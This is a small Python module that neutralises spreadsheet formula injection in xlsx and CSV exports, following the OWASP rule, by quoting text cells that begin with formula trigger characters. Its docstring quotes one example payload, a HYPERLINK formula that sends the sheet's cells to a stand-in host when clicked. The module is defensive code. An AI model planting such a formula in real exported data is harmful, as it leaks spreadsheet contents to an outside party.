"""Spreadsheet cells that cannot become formulas (the OWASP CSV-injection rule).

A text cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (a bank registered as
`=HYPERLINK("https://x.invalid?"&A1,"click")` would send the sheet's cells away when
clicked). Such a text is written with a leading single quote, which the spreadsheet shows
as text. Numbers stay numbers: Decimal/int/float cells are untouched, and in CSV (where
every cell is text) a string that is exactly a decimal number, such as `-12.50` for a
reversal, is left as it is, since a spreadsheet reads it as that number and not a formula.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from datetime import date, datetime
from decimal import Decimal

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")

Cell = str | int | float | Decimal | date | datetime | None


def neutralise(value: str) -> str:
    if value.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_cell(value: Cell) -> Cell:
    """An xlsx or CSV cell value: text neutralised, everything else as it is."""
    return neutralise(value) if isinstance(value, str) else value


def csv_row(values: Iterable[Cell]) -> list[Cell]:
    return [safe_cell(v) for v in values]
